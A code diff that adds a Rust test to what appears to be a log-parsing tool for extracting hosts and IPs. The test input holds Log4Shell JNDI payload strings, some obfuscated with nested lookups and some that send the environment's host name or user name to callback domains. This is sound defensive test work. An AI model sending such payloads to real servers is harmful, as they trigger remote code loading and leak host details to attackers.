@@ -555,6 +555,25 @@ fn a_lookup_brace_and_a_user_at_an_address() {
 }
 
 #[test]
+fn hosts_that_log4j_lookups_hide() {
+    // Scanners hide `jndi:ldap` in more lookups, and send the victim's
+    // host name as the first label of their callback domain: the host is
+    // named without the lookups, and nothing is read inside one.
+    let text = r#"167.99.164.201 - - "GET / HTTP/1.1" 404 "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://log4j-probe.kryptonscan.xyz/a}"
+"${jndi:dns://${env:HOSTNAME}.c6qv3l2k8r0j5a4b1c2dgf.oast.fun}" "${jndi:${lower:r}mi://45.83.193.150:1099/o}"
+"${jndi:ldap://evil.${env:USER}.example-probe.com/a}" costs $5://nothing"#;
+    assert_eq!(
+        found(text),
+        kinds_values(&[
+            ("ipv4", "167.99.164.201"),
+            ("domain", "log4j-probe.kryptonscan.xyz"),
+            ("domain", "c6qv3l2k8r0j5a4b1c2dgf.oast.fun"),
+            ("ipv4", "45.83.193.150"),
+        ])
+    );
+}
+
+#[test]
 fn hosts_of_urls_with_other_schemes() {
     // A scheme outside `URL_SCHEMES` makes no URL, but its host is named.
     assert_eq!(
